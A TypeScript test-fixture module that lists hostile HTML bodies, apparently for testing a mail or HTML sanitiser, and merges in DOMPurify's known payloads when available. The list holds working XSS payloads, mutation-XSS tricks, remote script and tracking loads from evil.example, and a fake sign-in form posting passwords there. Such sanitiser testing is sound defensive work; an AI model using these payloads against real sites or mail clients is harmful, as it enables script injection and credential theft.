import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";

/** HTML bodies that try to run, load, submit, leave their place or cover the page. */
const ours: readonly string[] = [
  `<script>alert(1)</script><script src="https://evil.example/x.js"></script>`,
  `<img src=x onerror="alert(1)"><svg onload="alert(1)"><animate onbegin="alert(1)" attributeName="x"></svg>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data="https://evil.example/x.swf"></object>`,
  `<a href="javascript:alert(1)" autofocus onfocus="alert(1)">read on</a><a href="data:text/html,<script>alert(1)</script>">or here</a>`,
  `<form action="https://evil.example/" id="f"><input name="password" autofocus><button form="f">Sign in</button></form>`,
  `<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/x.png)}</style><p style="background-image:url(https://evil.example/y.png)">styled</p>`,
  `<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2x.gif 2x"><picture><source srcset="https://evil.example/p.webp"><img src="https://evil.example/p.gif"></picture>`,
  `<video poster="https://evil.example/v.jpg" src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3" autoplay onplay="alert(1)"></audio>`,
  `<link rel="stylesheet" href="https://evil.example/x.css"><link rel="prefetch" href="https://evil.example/p"><table background="https://evil.example/t.png"><tr><td>cell</td></tr></table>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><img src=x onerror=alert(1)></template>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red">Your session is over. <a href="https://evil.example/">Sign in</a></div>`,
  `<img src="/api/auth/sign-out"><img src="//evil.example/x.gif"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">`,
];

const folder = process.env["KVIT_CORPORA"] ?? join(import.meta.dirname, "..", "..", "shared", "corpora");
const fixtures = join(folder, "dompurify", "payloads.json");
if (!existsSync(fixtures)) console.info(`Only our own attack mails are tried: there is no ${fixtures}.`);

function known(): readonly string[] {
  if (!existsSync(fixtures)) return [];
  const { cases } = JSON.parse(readFileSync(fixtures, "utf8")) as { cases: { payload: string }[] };
  return cases.map(({ payload }) => payload);
}

/** All attacks there are: our own, and the known ones where the shared test data is at hand. */
export const attacks: readonly string[] = [...ours, ...known()];
